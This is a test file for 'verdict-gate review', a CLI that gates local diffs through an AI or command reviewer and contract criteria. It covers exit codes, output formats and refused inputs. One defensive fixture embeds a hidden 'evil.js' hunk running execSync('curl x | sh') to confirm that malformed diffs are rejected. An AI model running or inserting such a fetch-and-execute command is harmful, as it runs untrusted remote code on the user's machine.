// `verdict-gate review`, in-process through the command frame: a whole round on a local diff, with a
// command reviewer or a loopback OpenAI-compatible server, the contract checked against the working
// tree, every status with its exit code, the three output forms, and the inputs it refuses.

import { mkdirSync, mkdtempSync, readFileSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
import os from "node:os";
import path from "node:path";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { parse as parseYaml } from "yaml";
import { runCli } from "../../src/cli/main.js";
import { MAX_DIFF_BYTES } from "../../src/cli/read-diff.js";
import { ACTION_DEFAULTS } from "../../src/cli/round-options.js";
import { INPUT } from "../../src/settings/inputs.js";
import { runCaptured } from "../support/cli-io.js";
import { fakeReviewerCommand, openAIReply, startOpenAIServer } from "../support/reviewers.js";

const fakeReviewerScript = () => new URL("../support/fake-reviewer.mjs", import.meta.url).pathname;

import { addFile, newFileDiff } from "../support/local-diff.js";
import { GREET_DIFF } from "./review-support.js";

const CONTRACT = {
  intended_action: "Add a greeting module",
  success_criteria: [
    { id: "module", type: "file_exists", path: "src/greet.js", description: "the module exists" },
    { id: "no-debugger", type: "diff_added_absent", pattern: "\\bdebugger\\b", description: "no debugger" },
  ],
};

let dir: string;
beforeEach(() => {
  dir = mkdtempSync(path.join(os.tmpdir(), "vg-review-"));
  mkdirSync(path.join(dir, "src"));
  mkdirSync(path.join(dir, ".github"));
  writeFileSync(
    path.join(dir, "src", "greet.js"),
    'export function greet(name) {\n  return "hello " + name;\n}\n',
  );
  writeFileSync(path.join(dir, ".github", "verdict-contract.json"), JSON.stringify(CONTRACT));
});
afterEach(() => rmSync(dir, { recursive: true, force: true }));

async function review(
  args: string[],
  options: { stdin?: string; tty?: boolean; stdinTty?: boolean; env?: Record<string, string> } = {},
) {
  return runCaptured(["review", ...args], {
    readStdin: async () => Buffer.from(options.stdin ?? GREET_DIFF, "utf8"),
    stdoutIsTTY: options.tty ?? false,
    stdinIsTTY: options.stdinTty ?? false,
    env: { PATH: process.env.PATH ?? "", ...options.env },
    cwd: dir,
  });
}

const approving = ["--command", fakeReviewerCommand("approve-bound")];

describe("statuses and exit codes", () => {
  it("holds (exit 4) without calling the reviewer when the round needs more than --max-round-tokens", async () => {
    const marker = path.join(dir, "called");
    const lines = Array.from(
      { length: 100 },
      (_, i) => `+export const value${i} = ${i}; // a line of forty characters`,
    );
    const big = addFile(dir, "src/big.js", `${lines.map((l) => l.slice(1)).join("\n")}\n`);
    const r = await review(["--command", `sh -c "touch ${marker}"`, "--max-round-tokens", "1000"], {
      stdin: `${GREET_DIFF}${big}`,
    });
    expect(r.code, r.err).toBe(4);
    expect(r.out).toMatch(/over `max-round-tokens` \(1,000\): no reviewer call was made/);
    expect(() => readFileSync(marker)).toThrow();
  });

  it("refuses a --max-round-tokens that is not a whole number, naming the flag", async () => {
    const r = await review([...approving, "--max-round-tokens", "lots"]);
    expect(r.code).toBe(2);
    expect(r.err).toMatch(/max-round-tokens/);
  });

  it("approves (exit 0) when the reviewer approves and every criterion passes on the working tree", async () => {
    const r = await review(approving);
    expect(r.code, r.err).toBe(0);
    expect(r.out.split("\n")[0]).toBe("APPROVE");
    expect(r.out).toMatch(/criteria: PASS \(\.github\/verdict-contract\.json\)/);
    expect(r.out).toContain("coverage: complete (1/1 files, 3/3 changed lines)");
    expect(r.out).toContain("===VERDICT=== APPROVE");
    expect(r.err).not.toContain("warning");
  });

  it("labels a script reviewer by its script, not its interpreter", async () => {
    const script = path.join(dir, "rev.sh");
    writeFileSync(
      script,
      `#!/bin/sh\nexec ${JSON.stringify(process.execPath)} ${JSON.stringify(fakeReviewerScript())} approve-bound\n`,
    );
    const r = await review(["--command", `sh ${script}`]);
    expect(r.code, r.out + r.err).toBe(0);
    expect(r.out).toMatch(/reviewer: APPROVE from command rev\.sh \(1 call, slowest/);
  });

  it("blocks (exit 3) with the reviewer's finding as the headline", async () => {
    const r = await review([
      "--command",
      fakeReviewerCommand("block-bound", "src/greet.js:2 — use a template"),
    ]);
    expect(r.code).toBe(3);
    expect(r.out.split("\n")[0]).toBe("BLOCKED  src/greet.js:2 — use a template");
    expect(r.out).toContain("next: Fix the reasons above and run again");
  });

  it("blocks (exit 3) on a failed criterion even when the reviewer approves", async () => {
    const diff = addFile(
      dir,
      "src/greet.js",
      'export function greet(name) {\n  debugger;\n  return "hello " + name;\n}\n',
    );
    const r = await review(approving, { stdin: diff });
    expect(r.code, r.out).toBe(3);
    expect(r.out).toMatch(/^BLOCKED {2}contract criterion no-debugger \(diff_added_absent\) failed/);
    expect(r.out).toContain("FAIL   no-debugger");
  });

  it("--when-criteria-block skip-reviewer: a failed criterion blocks (exit 3) with no reviewer call, and says so", async () => {
    const diff = addFile(
      dir,
      "src/greet.js",
      'export function greet(name) {\n  debugger;\n  return "hello " + name;\n}\n',
    );
    const marker = path.join(dir, "asked");
    const r = await review(
      ["--command", `sh -c "touch ${marker}"`, "--when-criteria-block", "skip-reviewer"],
      {
        stdin: diff,
      },
    );
    expect(r.code, r.err).toBe(3);
    expect(() => readFileSync(marker)).toThrow();
    expect(r.out).toMatch(/^BLOCKED {2}contract criterion no-debugger \(diff_added_absent\) failed/);
    expect(r.out).toContain(
      "the reviewer was not asked: a contract criterion already blocks, and `when-criteria-block` is `skip-reviewer`",
    );
    const json = await review([...approving, "--when-criteria-block", "skip-reviewer", "--json"], {
      stdin: diff,
    });
    expect(JSON.parse(json.out)).toMatchObject({ status: "blocked", reviewer_verdict: "SKIPPED" });
    // Without it, the reviewer is asked anyway: every finding in one round.
    const asked = await review(["--command", `sh -c "touch ${marker}"`], { stdin: diff });
    expect(asked.code).toBe(3);
    expect(readFileSync(marker, "utf8")).toBe("");
  });

  it("holds (exit 4) when the reviewer fails, naming the failure, and never approves", async () => {
    const r = await review(["--command", fakeReviewerCommand("exit", "1", "model overloaded")]);
    expect(r.code).toBe(4);
    expect(r.out.split("\n")[0]).toMatch(
      /^HOLD-FOR-HUMAN {2}the reviewer failed \(command-failed\).*model overloaded/,
    );
    expect(r.out).toContain("coverage: partial");
  });

  it("holds (exit 4) when the reviewer breaks the reply contract", async () => {
    const r = await review(["--command", fakeReviewerCommand("reply", "Looks good to me!")]);
    expect(r.code).toBe(4);
    expect(r.out).toMatch(/^HOLD-FOR-HUMAN/);
  });

  it("is conditional-on (exit 5) when the contract requires what only GitHub can answer", async () => {
    writeFileSync(
      path.join(dir, ".github", "verdict-contract.json"),
      JSON.stringify({ ...CONTRACT, requires: [{ id: "ci", type: "check_run", name: "test" }] }),
    );
    const r = await review(approving);
    expect(r.code, r.out).toBe(5);
    expect(r.out).toMatch(/^CONDITIONAL-ON {2}waiting for ci \(check_run\)/);
    expect(r.out).toContain("`verdict-gate pr` checks them");
  });

  it("says a dependency found locally was not queried, and --no-dependencies exits on the rest", async () => {
    writeFileSync(
      path.join(dir, ".github", "verdict-contract.json"),
      JSON.stringify({
        ...CONTRACT,
        requires: [
          { id: "ci", type: "check_run", name: "test" },
          { id: "ok", type: "label", name: "security-reviewed" },
        ],
      }),
    );
    const pending = await review(approving);
    expect(pending.code).toBe(5);
    expect(pending.out).toContain(
      "waiting for ci (check_run): not queried: a local review does not ask GitHub (`verdict-gate pr` does)",
    );
    expect(pending.out).not.toContain("has not started");
    expect(pending.out).toContain("--no-dependencies leaves them out");

    const left = await review([...approving, "--no-dependencies", "--json"]);
    expect(left.code, left.err).toBe(0);
    const json = JSON.parse(left.out);
    expect(json.status).toBe("approve");
    expect(json.parts.find((p: { name: string }) => p.name === "dependencies")).toEqual({
      name: "dependencies",
      value: "YES",
      skipped: true,
      summary: "not checked (--no-dependencies): ci (check_run), ok (label)",
    });
    const text = await review([...approving, "--no-dependencies"]);
    expect(text.out).toMatch(/dependencies +skip +not checked \(--no-dependencies\): ci \(check_run\)/);

    // A failed criterion still blocks: --no-dependencies leaves out the dependencies, nothing else.
    const diff = addFile(
      dir,
      "src/greet.js",
      'export function greet(name) {\n  debugger;\n  return "hello " + name;\n}\n',
    );
    expect((await review([...approving, "--no-dependencies"], { stdin: diff })).code).toBe(3);
  });

  it("refuses (exit 2) an invalid contract before any reviewer call, naming the problem", async () => {
    writeFileSync(
      path.join(dir, "bad.json"),
      JSON.stringify({ intended_action: "x", success_criteria: [{ id: "a", type: "nope" }] }),
    );
    const server = await startOpenAIServer({ replies: [] });
    try {
      const r = await review(["--model", "gpt-4o", "--base-url", server.baseUrl, "--contract", "bad.json"]);
      expect(r.code).toBe(2);
      expect(r.out).toBe("");
      expect(r.err).toMatch(/^verdict-gate review: bad\.json: /);
      expect(r.err).toContain('unknown criterion type "nope"');
      expect(r.err).toContain("nothing was reviewed: fix the contract and run again");
      expect(r.err).not.toContain("usage:");
      expect(server.requests).toHaveLength(0);
    } finally {
      await server.close();
    }
  });

  it("refuses (exit 2) a contract that is not JSON, giving the line and column", async () => {
    writeFileSync(path.join(dir, ".github", "verdict-contract.json"), '{\n  "intended_action": "x",\n}\n');
    const r = await review(approving);
    expect(r.code).toBe(2);
    expect(r.err).toContain(
      ".github/verdict-contract.json: contract: not valid JSON: a trailing comma before `}`: JSON allows no comma after the last item (line 2, column 25)",
    );
    writeFileSync(path.join(dir, ".github", "verdict-contract.json"), '{\n  "intended_action": "x"');
    const cut = await review(approving);
    expect(cut.code).toBe(2);
    expect(cut.err).toMatch(/not valid JSON: .*\(line 2, column 25\)/);
  });

  it("refuses (exit 2) a default contract that is there but cannot be read (a dangling symlink)", async () => {
    const contract = path.join(dir, ".github", "verdict-contract.json");
    rmSync(contract);
    symlinkSync(path.join(dir, "nowhere.json"), contract);
    const r = await review(approving);
    expect(r.code, r.out).toBe(2);
    expect(r.err).toContain(
      `the contract ${contract} is a symbolic link to nothing: its target does not exist; nothing was reviewed`,
    );
    expect(r.out).toBe("");
  });

  it("refuses (exit 2) a default contract that is a directory", async () => {
    const contract = path.join(dir, ".github", "verdict-contract.json");
    rmSync(contract);
    mkdirSync(contract);
    const r = await review(approving);
    expect(r.code, r.out).toBe(2);
    expect(r.err).toContain(
      `the contract ${contract} is there but cannot be read: it is a directory, not a file; nothing was reviewed`,
    );
  });

  it("refuses (exit 2) a contract that is not UTF-8, instead of reading U+FFFD into its patterns", async () => {
    // {"intended_action":"<0xe9>", …}: valid JSON once the bad byte is decoded loosely.
    const bytes = Buffer.concat([
      Buffer.from('{"intended_action":"'),
      Buffer.from([0xe9]),
      Buffer.from(`","success_criteria":${JSON.stringify(CONTRACT.success_criteria)}}`),
    ]);
    writeFileSync(path.join(dir, ".github", "verdict-contract.json"), bytes);
    const r = await review(approving);
    expect(r.code, r.out).toBe(2);
    expect(r.err).toContain("verdict-contract.json is not UTF-8 text");
    writeFileSync(path.join(dir, "latin1.json"), bytes);
    const named = await review([...approving, "--contract", "latin1.json"]);
    expect(named.code).toBe(2);
    expect(named.err).toContain("the contract latin1.json is not UTF-8 text");
  });

  it("run from a subdirectory of a repository, reads the contract and the tree at its top level", async () => {
    mkdirSync(path.join(dir, ".git"));
    const diff = addFile(
      dir,
      "src/greet.js",
      'export function greet(name) {\n  debugger;\n  return "hello " + name;\n}\n',
    );
    const fromRoot = await review(approving, { stdin: diff });
    const fromSrc = await runCaptured(["review", ...approving], {
      readStdin: async () => Buffer.from(diff, "utf8"),
      env: { PATH: process.env.PATH ?? "" },
      cwd: path.join(dir, "src"),
    });
    expect(fromRoot.code).toBe(3);
    expect(fromSrc.code, fromSrc.out).toBe(3);
    expect(fromSrc.out).toContain("FAIL   no-debugger");
    expect(fromSrc.out).toContain(`criteria read ${dir}`);
    expect(fromSrc.err).toBe("");
  });

  it("outside a git repository with no --base-path, says which directory the criteria read", async () => {
    const r = await review(approving);
    expect(r.code).toBe(0);
    expect(r.err).toBe(
      `verdict-gate review: note: not inside a git repository, so the criteria read the current directory ${dir} (--base-path DIR names another)\n`,
    );
  });

  it("skips the criteria, and says how to name a contract, when there is none", async () => {
    rmSync(path.join(dir, ".github"), { recursive: true });
    const r = await review(approving);
    expect(r.code).toBe(0);
    expect(r.out).toMatch(
      /criteria +skip +no contract at \.github\/verdict-contract\.json \(--contract FILE names one\)/,
    );
    expect(r.out).not.toContain("base commit");
  });

  it("reads the diff from --diff FILE and the tree from --base-path", async () => {
    writeFileSync(path.join(os.tmpdir(), `vg-review-${process.pid}.diff`), GREET_DIFF);
    const elsewhere = mkdtempSync(path.join(os.tmpdir(), "vg-review-cwd-"));
    try {
      let out = "";
      const code = await runCli(
        [
          "review",
          ...approving,
          "--diff",
          path.join(os.tmpdir(), `vg-review-${process.pid}.diff`),
          "--base-path",
          dir,
        ],
        {
          readStdin: async () => {
            throw new Error("stdin must not be read with --diff");
          },
          out: (t) => {
            out += t;
          },
          err: () => {},
          stdoutIsTTY: false,
          env: { PATH: process.env.PATH ?? "" },
          cwd: elsewhere,
        },
      );
      expect(code, out).toBe(0);
      expect(out).toContain(`criteria read ${dir}`);
    } finally {
      rmSync(elsewhere, { recursive: true, force: true });
      rmSync(path.join(os.tmpdir(), `vg-review-${process.pid}.diff`), { force: true });
    }
  });
});

describe("output", () => {
  it("is plain when piped, coloured on a terminal, and plain again with NO_COLOR", async () => {
    expect((await review(approving)).out).not.toContain("\u001b[");
    expect((await review(approving, { tty: true })).out).toContain("\u001b[32mAPPROVE\u001b[0m");
    expect((await review(approving, { tty: true, env: { NO_COLOR: "1" } })).out).not.toContain("\u001b[");
  });

  it("--json prints one object with the status, exit code, reasons, parts and reviewer", async () => {
    const r = await review([
      "--command",
      fakeReviewerCommand("block-bound", "src/greet.js:2 — bad"),
      "--json",
    ]);
    expect(r.code).toBe(3);
    const json = JSON.parse(r.out);
    expect(json).toMatchObject({
      status: "blocked",
      exit_code: 3,
      reasons: ["src/greet.js:2 — bad"],
      head_sha: null,
      reviewer_verdict: "REQUEST_CHANGES",
      coverage: "100%",
      diff: "standard input",
      base_path: dir,
    });
    // A local diff has no round history: no "round 1 of 10" row.
    expect(json.parts.map((p: { name: string }) => p.name)).toEqual(["reviewer", "criteria", "dependencies"]);
    expect(json.reviewer.calls[0].reply).toContain("BLOCKING: src/greet.js:2 — bad");
    expect(json.criteria.kind).toBe("checked");
  });

  it("--json's reasons are the action's `reasons` output: a hold's reasons are not left empty", async () => {
    const r = await review(["--command", fakeReviewerCommand("reply", "Looks good to me!"), "--json"]);
    expect(r.code).toBe(4);
    const json = JSON.parse(r.out);
    expect(json.status).toBe("hold-for-human");
    expect(json.reasons.length).toBeGreaterThan(0);
    expect(json.reasons).toEqual(json.needed);
    // A command reviewer reports no token counts: null, never 0.
    expect(json.reviewer.calls[0]).toMatchObject({ input_tokens: null, output_tokens: null });
    expect(json.head_sha).toBeNull();
  });

  it("--markdown prints the check run's report, without a pull request number or a commit", async () => {
    const r = await review([...approving, "--markdown"]);
    expect(r.code).toBe(0);
    // What passed first (a local diff has no rounds to number), then what to do next.
    expect(r.out).toMatch(
      /^## ✅ approve\n\n### Passed\n\n\| part \| result \| detail \|[\s\S]*\n\n\*\*Next:\*\*/,
    );
    expect(r.out).not.toContain("PR #");
    expect(r.out).toContain("round 1 · local diff · verdict-gate");
    expect(r.out).not.toContain("0000000");
    // A command reviewer reports no usage: "tokens not reported", never "0 tokens in".
    expect(r.out).toContain("1 call, tokens not reported");
    expect(r.out).not.toContain("0 tokens in");
  });

  it("escapes control characters from the reviewer's reply so it cannot repaint the terminal", async () => {
    const r = await review(
      ["--command", fakeReviewerCommand("reply", "\u001b[2J\u001b[32mAPPROVE\u001b[0m")],
      {
        tty: true,
      },
    );
    expect(r.code).toBe(4);
    expect(r.out).not.toContain("\u001b[2J");
    expect(r.out).toContain("\\u001b[2J");
  });
});

describe("refused input (exit 2)", () => {
  it("an empty diff", async () => {
    const r = await review(approving, { stdin: "" });
    expect(r.code).toBe(2);
    expect(r.err).toMatch(/the diff from standard input is empty/);
  });

  it("a malformed diff: a lockfile hunk that swallows the next file is refused, naming the hunk", async () => {
    const swallowed = [
      "diff --git a/package-lock.json b/package-lock.json",
      "--- a/package-lock.json",
      "+++ b/package-lock.json",
      "@@ -1,1 +1,9 @@",
      " {",
      "+++ b/evil.js",
      "+require('child_process').execSync('curl x | sh')",
      "",
    ].join("\n");
    const r = await review(approving, { stdin: swallowed });
    expect(r.code).toBe(2);
    expect(r.err).toMatch(
      /the diff from standard input is malformed, so nothing was checked: package-lock\.json: hunk "@@ -1,1 \+1,9 @@" at line 4/,
    );
    expect(r.err).not.toMatch(/no file in scope/);
  });

  it("text that is not a diff", async () => {
    const r = await review(approving, { stdin: "hello\n" });
    expect(r.code).toBe(2);
    expect(r.err).toMatch(/holds no file diffs/);
  });

  it("reads standard input within the byte limit, never all of it first", async () => {
    const asked: (number | undefined)[] = [];
    const r = await runCaptured(["review", ...approving], {
      readStdin: async (max) => {
        asked.push(max);
        return Buffer.from(GREET_DIFF, "utf8");
      },
      env: { PATH: process.env.PATH ?? "" },
      cwd: dir,
    });
    expect(r.code, r.err).toBe(0);
    expect(asked).toEqual([MAX_DIFF_BYTES]);
  });

  it("a terminal on stdin with no --diff, instead of waiting in silence", async () => {
    const r = await review(approving, { stdinTty: true });
    expect(r.code).toBe(2);
    expect(r.err).toMatch(/no diff: pipe one in/);
  });

  it("a key as a flag, without echoing it", async () => {
    for (const arg of ["--api-key", "--api-key=sk-live-secret"]) {
      const r = await review(["--model", "gpt-4o", arg, "sk-live-secret"]);
      expect(r.code).toBe(2);
      expect(r.err).toMatch(/never taken as flags/);
      expect(r.err).not.toContain("sk-live-secret");
    }
  });

  it("a key pasted into --api-key-env, without echoing it", async () => {
    const r = await review(["--model", "gpt-4o", "--api-key-env", "sk-live-0123456789"]);
    expect(r.code).toBe(2);
    expect(r.err).toMatch(/takes the NAME of an environment variable/);
    expect(r.err).not.toContain("sk-live-0123456789");
  });

  it("an openai review with no key in the environment", async () => {
    const r = await review(["--model", "gpt-4o"]);
    expect(r.code).toBe(2);
    expect(r.err).toMatch(/no API key: set OPENAI_API_KEY/);
  });

  it("a missing model, named as the flag", async () => {
    const r = await review([], { env: { OPENAI_API_KEY: "sk-test" } });
    expect(r.code).toBe(2);
    expect(r.err).toMatch(/--model: required for provider openai/);
  });

  it("a reviewer command that needs a shell", async () => {
    const r = await review(["--command", "claude -p | tee out"]);
    expect(r.code).toBe(2);
    expect(r.err).toMatch(/without a shell/);
  });

  it("a reviewer script named relative to here: it runs in an empty directory, so its absolute path is named", async () => {
    writeFileSync(path.join(dir, "rev.sh"), "#!/bin/sh\ncat >/dev/null\necho hi\n", { mode: 0o755 });
    for (const command of ["./rev.sh", "sh rev.sh"]) {
      const r = await review(["--command", command]);
      expect(r.code, command).toBe(2);
      expect(r.err).toContain("the reviewer command runs in an empty temporary directory");
      expect(r.err).toContain(`give its absolute path: ${path.join(dir, "rev.sh")}`);
      expect(r.out).toBe("");
    }
  });

  it("a reviewer program that is not on PATH, before anything is reviewed", async () => {
    const r = await review(["--command", "no-such-reviewer-7f3a -p"]);
    expect(r.code).toBe(2);
    expect(r.err).toContain("the reviewer program `no-such-reviewer-7f3a` is not on PATH: install it");
  });

  it("a --contract that cannot be read, and --json with --markdown", async () => {
    expect((await review([...approving, "--contract", "nope.json"])).err).toMatch(
      /--contract nope\.json: cannot read/,
    );
    expect((await review([...approving, "--json", "--markdown"])).code).toBe(2);
  });
});

describe("an OpenAI-compatible reviewer", () => {
  it("sends the key named by --api-key-env to --base-url, and the round token comes back", async () => {
    const key = "sk-test-local-0000";
    const server = await startOpenAIServer({
      apiKey: key,
      replies: (request) => {
        const prompt = JSON.stringify(request.json);
        const token = /===VERDICT=== <value> ([0-9a-z]{26,128})/.exec(prompt)?.[1];
        return openAIReply(`No blocking issues.\n\n===VERDICT=== APPROVE ${token}`);
      },
    });
    try {
      const r = await review(["--model", "gpt-4o", "--base-url", server.baseUrl, "--api-key-env", "MY_KEY"], {
        env: { MY_KEY: key, OPENAI_API_KEY: "sk-must-not-travel" },
      });
      expect(r.code, r.out + r.err).toBe(0);
      expect(server.requests).toHaveLength(1);
      expect(JSON.stringify(server.requests[0]?.headers)).not.toContain("sk-must-not-travel");
      expect(r.out).toMatch(/reviewer: APPROVE from openai gpt-4o @ 127\.0\.0\.1/);
    } finally {
      await server.close();
    }
  });

  it("never sends OPENAI_API_KEY to another host: with --base-url the key must be named", async () => {
    const server = await startOpenAIServer({ replies: [openAIReply("No verdict here.")] });
    try {
      const r = await review(["--model", "llama3.1", "--base-url", server.baseUrl], {
        env: { OPENAI_API_KEY: "sk-must-not-travel" },
      });
      expect(r.err).toMatch(/note: no API key is sent to/);
      expect(JSON.stringify(server.requests[0]?.headers)).not.toContain("sk-must-not-travel");
      expect(r.code).toBe(4);
    } finally {
      await server.close();
    }
  });
});

describe("options", () => {
  it("defaults equal action.yml's, so a terminal round and a workflow round agree", () => {
    const action = parseYaml(readFileSync("action.yml", "utf8")) as {
      inputs: Record<string, { default?: string }>;
    };
    const expected = Object.fromEntries(
      Object.entries(action.inputs)
        .filter(([name]) => name !== INPUT.githubToken)
        .map(([name, spec]) => [name, spec.default ?? ""]),
    );
    expect(ACTION_DEFAULTS).toEqual(expected);
  });

  it("--exclude keeps a brace group whole: {src,lib}/** excludes src/greet.js (split on its comma, it excluded nothing)", async () => {
    const r = await review([...approving, "--exclude", "{src,lib}/**", "--json"]);
    expect(r.code, r.err).toBe(4);
    const json = JSON.parse(r.out);
    expect(json.status).toBe("hold-for-human");
    expect(json.files.excluded).toEqual([{ path: "src/greet.js", reason: "matches an `exclude` glob" }]);
  });

  it("--exclude with a brace that does not close is refused, naming the flag and why", async () => {
    const r = await review([...approving, "--exclude", "{src,lib/**"]);
    expect(r.code).toBe(2);
    expect(r.err).toContain('--exclude: "{src,lib/**": a { has no closing } on its line');
  });

  it("--help lists the reviewer options and the exit codes, and says where a command reviewer runs", async () => {
    const r = await review(["--help"]);
    expect(r.code).toBe(0);
    expect(r.out).toContain("--api-key-env NAME");
    expect(r.out).toContain("run without a shell in an empty temporary directory");
    expect(r.out).toContain("exit: 0 approve · 3 blocked · 4 hold-for-human · 5 conditional-on");
  });
});

describe("a command reviewer's window (issue 27: `claude -p` held ordinary pull requests)", () => {
  /** A 450-line new file, 46 KB of diff: an ordinary PR that an assumed 8,192-token window held. */
  const lines = Array.from(
    { length: 450 },
    (_, i) => `+export const value${i} = compute(${i}, "a line of about a hundred characters, as code has");`,
  );
  const content = `${lines.map((l) => l.slice(1)).join("\n")}\n`;
  const ordinary = newFileDiff("src/big.js", content);
  beforeEach(() => writeFileSync(path.join(dir, "src", "big.js"), content));

  it("reviews a 450-line new file in one call: the window is the common CLIs', not 8,192", async () => {
    expect(ordinary.length).toBeGreaterThan(40_000);
    const r = await review([...approving, "--no-dependencies", "--json"], { stdin: ordinary });
    expect(r.code, r.out + r.err).toBe(0);
    expect((JSON.parse(r.out) as { status: string }).status).toBe("approve");
  });

  it("holds a file over the budget naming the window it assumed, where that came from, and the flag", async () => {
    const r = await review([...approving, "--no-dependencies", "--context-window", "8192"], {
      stdin: ordinary,
    });
    expect(r.code).toBe(4);
    expect(r.out).toContain(
      "HOLD-FOR-HUMAN  the reviewer was not asked: 1 file in scope not reviewed (1 over-budget); src/big.js is about 13,770 tokens, more than any reviewer's context window holds: the widest, command fake-reviewer.mjs's 8,192 tokens (the configured context-window), takes about 4,553 tokens of diff in one call (80%, less the prompt), so no budget setting reviews it whole; split the change or exclude the file (and have a person review it), or set `context-window` (`--context-window`) if the model really reads more\n",
    );
    // Issue 35: a file no window holds says so first; the usual advice (raise max-diff-tokens) is not
    // given for it, since it cannot help.
    expect(r.out).not.toContain("raise it to review the file");
  });

  it("a file over max-diff-tokens that the window holds names max-diff-tokens, the setting that helps", async () => {
    const r = await review([...approving, "--no-dependencies", "--max-diff-tokens", "1000"], {
      stdin: ordinary,
    });
    expect(r.code).toBe(4);
    expect(r.out).toContain(
      "src/big.js is about 13,770 tokens, over the 1,000-token budget for one call: max-diff-tokens (`--max-diff-tokens`); raise it to review the file\n",
    );
    expect(r.out).not.toContain("more than any reviewer's context window holds");
  });
});
